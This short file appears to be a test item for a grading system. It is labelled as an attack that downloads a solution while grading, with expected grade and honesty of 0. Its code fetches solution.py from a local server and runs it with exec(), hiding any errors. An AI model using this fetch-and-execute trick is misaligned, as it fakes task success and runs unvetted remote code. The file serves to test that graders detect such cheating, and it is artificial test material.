# attack: a solution is downloaded while grading
# wants: points
# grade: 0
# honest: 0
# %% after
import urllib.request
try:
    with urllib.request.urlopen("http://127.0.0.1:@PORT@/solution.py", timeout=1) as page:
        exec(page.read())
except Exception:
    pass
